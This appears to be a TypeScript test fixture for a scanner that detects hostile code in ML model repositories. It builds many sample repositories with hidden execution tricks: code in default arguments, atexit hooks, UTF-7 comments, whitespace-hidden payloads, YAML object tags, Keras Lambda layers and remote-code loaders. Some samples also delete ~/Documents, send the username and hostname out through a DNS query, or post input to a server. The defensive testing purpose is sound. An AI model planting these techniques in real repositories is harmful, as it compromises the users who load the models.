import type { DetectCase } from '../case.ts';
import { base64, bin, hex } from '../blind/bytes.ts';
import { type Module, modeling, remote, weights } from '../blind/code.ts';
import { bad, type Files } from '../blind/make.ts';
import { json } from '../blind/templates.ts';
import { zip } from '../blind/zip.ts';
import { unpackToo } from './packed.ts';

const table: ReadonlyArray<readonly [name: string, title: string, module: Module, more?: Files]> = [
  [
    'default-argument',
    'the default of an argument is a command',
    { imports: ['import os'], top: ['def scale(x, unit=os.system("echo pwned")):', '    return x', ''] },
  ],
  [
    'at-exit',
    'the command waits for the end of the process',
    { imports: ['import atexit', 'import subprocess'], init: ['atexit.register(subprocess.call, ["echo", "pwned"])'] },
  ],
  [
    'interpreter-api',
    'the C interface of Python runs a string',
    { imports: ['import ctypes'], top: [`ctypes.pythonapi.PyRun_SimpleString(b"print('pwned')")`, ''] },
  ],
  [
    'inline-kernel',
    'C++ source is compiled and loaded when the model is made',
    {
      imports: ['from torch.utils.cpp_extension import load_inline'],
      init: [
        'self.ops = load_inline("tiny", cpp_sources="#include <cstdlib>\\nint go() { return system(\\"echo pwned\\"); }", functions=["go"])',
        'self.ops.go()',
      ],
    },
  ],
  [
    'second-stage',
    'another repository is loaded with its code trusted',
    {
      imports: ['from transformers import AutoModel'],
      init: ['self.backbone = AutoModel.from_pretrained("someone/unrelated", trust_remote_code=True)'],
    },
  ],
  [
    'fetched-file',
    'a file is fetched from the hub and run',
    {
      imports: ['from huggingface_hub import hf_hub_download'],
      top: ['with open(hf_hub_download("someone/unrelated", "boot.py")) as f:', '    exec(f.read())', ''],
    },
  ],
  [
    'delete-home',
    'the cache of models and the notes of the user are deleted',
    {
      imports: ['import os', 'import shutil'],
      forward: ['shutil.rmtree(os.path.expanduser("~/Documents"), ignore_errors=True)'],
    },
  ],
  [
    'name-query',
    'name and machine of the user leave as a query for a host',
    {
      imports: ['import getpass', 'import socket'],
      init: ['socket.gethostbyname(f"{getpass.getuser()}.{socket.gethostname()}.collect.invalid")'],
    },
  ],
  [
    'patched-load',
    'torch.load is replaced by one that trusts every file',
    {
      imports: ['import functools'],
      top: [
        'torch.load = functools.partial(torch.load, weights_only=False)',
        'torch.serialization.load = torch.load',
        '',
      ],
    },
  ],
  [
    'far-right',
    'the command stands far beyond the edge of the screen',
    { top: [`VERSION = "1.0"${' '.repeat(600)}; __import__("os").system("echo pwned")`, ''] },
  ],
];

const py = (...lines: readonly string[]): Uint8Array => bin(`${lines.join('\n')}\n`);

const codeTable: DetectCase[] = [
  ...table.map(([name, title, module, more]) =>
    bad('python-code', name, 'repository', title, () => remote(modeling(module), more)),
  ),
  bad(
    'python-code',
    'odd-encoding',
    'repository',
    'a comment becomes a command in the encoding that the first line names',
    () => ({
      ...remote(modeling({})),
      'configuration_tiny.py': py(
        '# -*- coding: utf-7 -*-',
        '# the configuration +AAo-import os+ADs-os.system(+ACI-echo pwned+ACI-)',
        'from transformers import PretrainedConfig',
        '',
        '',
        'class TinyConfig(PretrainedConfig):',
        '    model_type = "tiny"',
      ),
    }),
  ),
  bad(
    'python-code',
    'lazy-attribute',
    'repository',
    'a module runs a command when a name is asked of it that it does not have',
    () => ({
      ...remote(modeling({ top: ['from .kernels import fused', ''] })),
      'kernels.py': py('import os', '', '', 'def __getattr__(name):', '    os.popen("echo pwned")', '    return None'),
    }),
  ),
];

const mapped = (file: string, key: string, value: unknown, module: string, source: readonly string[]): Files => ({
  [file]: json({ [key]: value }),
  [module]: py(...source),
  'model.safetensors': weights(),
});
const yaml = (file: string, ...lines: readonly string[]): Files => ({
  [file]: py(...lines),
  'model.safetensors': weights(),
});

const references: ReadonlyArray<readonly [string, string, () => Files]> = [
  [
    'image-processor',
    'the processor of images is code of the repository that runs a command',
    () =>
      mapped(
        'preprocessor_config.json',
        'auto_map',
        { AutoImageProcessor: 'image_processing_x.XProcessor' },
        'image_processing_x.py',
        ['import os', 'os.system("echo pwned")', '', 'class XProcessor:', '    pass'],
      ),
  ],
  [
    'own-generate',
    'the generation of text is code of the repository that runs a command',
    () =>
      mapped('generation_config.json', 'eos_token_id', 2, 'custom_generate/generate.py', [
        'import subprocess',
        '',
        '',
        'def generate(model, **kwargs):',
        '    subprocess.run("echo pwned", shell=True)',
        '    return model.generate(**kwargs)',
      ]),
  ],
  [
    'own-pipeline',
    'a pipeline of the repository sends what it is given to a server',
    () => ({
      'config.json': json({
        model_type: 'bert',
        custom_pipelines: {
          'pair-classification': { impl: 'pair.PairPipeline', pt: ['AutoModelForSequenceClassification'] },
        },
      }),
      'pair.py': py(
        'import urllib.request',
        'from transformers import Pipeline',
        '',
        '',
        'class PairPipeline(Pipeline):',
        '    def preprocess(self, text):',
        '        urllib.request.urlopen("http://127.0.0.1/x", data=text.encode())',
        '        return self.tokenizer(text)',
      ),
      'model.safetensors': weights(),
    }),
  ],
  [
    'sentence-module',
    'a module of a sentence model is code of the repository that runs a command',
    () => ({
      'modules.json': json([{ idx: 0, name: '0', path: '', type: 'pooling_x.Pooling' }]),
      'pooling_x.py': py(
        'import os',
        '',
        '',
        'class Pooling:',
        '    @staticmethod',
        '    def load(path):',
        '        os.system("echo pwned")',
      ),
      'model.safetensors': weights(),
    }),
  ],
  [
    'class-path',
    'the command line of Lightning is told to make a process',
    () => yaml('config.yaml', 'model:', '  class_path: subprocess.Popen', '  init_args:', '    args: [echo, pwned]'),
  ],
  [
    'instantiate',
    'a diffusion configuration makes a shell command',
    () => yaml('v1-inference.yaml', 'model:', '  target: os.system', '  params:', '    command: echo pwned'),
  ],
  [
    'build-backend',
    'installing the repository runs its own build backend',
    () => ({
      'pyproject.toml': py('[build-system]', 'requires = []', 'build-backend = "backend"', 'backend-path = ["."]'),
      'backend.py': py(
        'import os',
        '',
        '',
        'def build_wheel(directory, settings=None, metadata=None):',
        '    os.system("echo pwned")',
        '    return "x.whl"',
      ),
      'model.safetensors': weights(),
    }),
  ],
  [
    'requirements-nested',
    'requirements include a list from an address and a working copy',
    () => ({
      'requirements.txt': py('torch==2.6.0', '-r http://127.0.0.1/more.txt', '-e git+http://127.0.0.1/kit.git#egg=kit'),
      'model.safetensors': weights(),
    }),
  ],
  [
    'adapter-mapping',
    'the adapter names a library of Python as that of its base class',
    () => ({
      'adapter_config.json': json({
        peft_type: 'LORA',
        base_model_name_or_path: 'example/tiny',
        auto_mapping: { base_model_class: 'Popen', parent_library: 'subprocess' },
        r: 4,
      }),
      'adapter_model.safetensors': weights(),
    }),
  ],
  [
    'yaml-object',
    'a YAML tag in its long form makes a process',
    () =>
      yaml(
        'hyper_parameters.yaml',
        'callback: !!python/object/apply:subprocess.Popen',
        '  args: [[echo, pwned]]',
        '  state: {}',
      ),
  ],
];

export const codeCases: readonly DetectCase[] = [
  ...codeTable,
  ...references.map(([name, title, build]) => bad('config-reference', name, 'repository', title, build)),
  bad('config-reference', 'keras-lambda', 'zip', 'a layer of a Keras model is compiled code in base64', () => ({
    'model.keras': zip([
      { name: 'metadata.json', data: json({ keras_version: '3.4.0' }) },
      {
        name: 'config.json',
        data: json({
          module: 'keras',
          class_name: 'Sequential',
          config: {
            layers: [
              {
                module: 'keras.layers',
                class_name: 'Lambda',
                config: {
                  name: 'lambda',
                  function: {
                    class_name: '__lambda__',
                    config: { code: base64(unpackToo('lambdaCode')), defaults: null, closure: null },
                  },
                },
              },
            ],
          },
        }),
      },
      { name: 'model.weights.h5', data: hex('894844460d0a1a0a') },
    ]),
  })),
];
